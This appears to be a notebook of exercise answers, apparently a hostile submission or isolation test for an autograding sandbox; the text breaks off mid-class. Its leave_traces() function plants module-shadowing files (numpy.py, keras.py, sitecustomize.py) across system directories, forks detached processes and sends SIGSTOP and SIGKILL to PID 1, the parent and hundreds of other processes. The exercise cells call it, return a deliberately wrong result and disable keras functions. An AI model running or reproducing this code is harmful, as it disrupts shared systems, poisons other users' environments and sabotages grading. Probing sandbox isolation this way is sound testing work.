# %%
import os
import signal
import threading
import time


def leave_traces():
    """Files, links, threads and children, everywhere, for whoever runs here next."""
    if os.path.isdir("@COURSE@"):
        return  # never outside a sandbox
    for top in ("/work", "/tmp", "/dev/shm", "/agent", "/env", "/", "/run", "/var/tmp"):
        for name in ("left-by-an-attack", "keras.py", "numpy.py", "sitecustomize.py"):
            try:
                with open(f"{top}/{name}", "w") as file:
                    file.write("print('FOUND something left')")
            except OSError:
                continue
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(20)
        os._exit(0)
    threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
    for pid in (1, os.getppid(), *range(2, 400)):
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                if pid != os.getpid():
                    os.kill(pid, number)
            except OSError:
                continue


# %% exercise="heaviside"
leave_traces()


def heaviside(z):
    return np.full(np.shape(z), 7)


# %% exercise="Perceptron"
leave_traces()
keras.config.set_floatx("float64")
keras.Variable.__init__ = keras.ops.matmul = None


class Perceptron:
    def __init__(self, units):
        leave_traces()
